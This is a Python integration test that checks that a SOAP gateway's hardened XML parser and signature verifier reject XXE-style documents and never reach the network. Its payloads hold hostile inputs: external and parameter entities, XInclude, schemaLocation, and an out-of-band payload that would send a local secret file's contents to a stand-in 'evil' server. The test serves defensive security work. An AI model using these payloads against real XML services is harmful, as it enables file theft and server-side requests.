"""The hardened parser and signature verification never reach the network, whatever a document points at."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest

from gateway.errors import HostileXml, SignatureMissing
from gateway.soap import xml
from gateway.soap.signing import verify
from gateway.soap.xml import parse_xml
from tests.integration.soap_echo_server import CountingServer
from tests.soap_keys import make_key_pair

pytestmark = pytest.mark.integration

LIMITS = {"max_bytes": 64 * 1024, "max_depth": 32}


@pytest.fixture
async def evil() -> AsyncIterator[CountingServer]:
    server = CountingServer()
    await server.start()
    yield server
    await server.stop()


def payloads(url: str, secret: Path) -> dict[str, bytes]:
    return {
        "external entity": f'<!DOCTYPE r [<!ENTITY x SYSTEM "{url}/entity">]><r>&x;</r>'.encode(),
        "external dtd": f'<!DOCTYPE r SYSTEM "{url}/dtd"><r/>'.encode(),
        "public dtd": f'<!DOCTYPE r PUBLIC "-//EVIL//DTD//EN" "{url}/public"><r/>'.encode(),
        "parameter entity": f'<!DOCTYPE r [<!ENTITY % p SYSTEM "{url}/pe"> %p;]><r/>'.encode(),
        "out of band": (
            f'<!DOCTYPE r [<!ENTITY % f SYSTEM "{secret.as_uri()}">'
            f"<!ENTITY % e \"<!ENTITY &#x25; x SYSTEM '{url}/oob?%f;'>\"> %e; %x;]><r/>"
        ).encode(),
        "xinclude": f'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="{url}/xi"/></r>'.encode(),
        "schema location": (
            f'<r xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:x {url}/xsd"/>'
        ).encode(),
    }


async def test_no_document_makes_the_parser_or_the_verifier_call_out(evil: CountingServer, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("NOT-FOR-THE-NETWORK")
    trusted = make_key_pair("partner.test").cert_pem
    for name, data in payloads(evil.url, secret).items():
        if data.startswith(b"<!DOCTYPE"):
            with pytest.raises(HostileXml) as caught:
                parse_xml(data, **LIMITS)
            assert caught.value.kind == xml.DOCTYPE, name
            assert "NOT-FOR-THE-NETWORK" not in caught.value.reason
        else:
            # Without a DTD these are plain elements and attributes: parsed, never followed.
            parse_xml(data, **LIMITS)
        expected = HostileXml if data.startswith(b"<!DOCTYPE") else SignatureMissing
        with pytest.raises(expected) as refused:
            verify(data, trusted_cert_pem=trusted, **LIMITS)
        assert "NOT-FOR-THE-NETWORK" not in str(refused.value), name
    # Nothing came, though the server was there to be reached:
    assert dict(evil.hits) == {}
    async with aiohttp.ClientSession() as session, session.get(f"{evil.url}/control") as response:
        assert response.status == 200
    assert dict(evil.hits) == {"/control": 1}
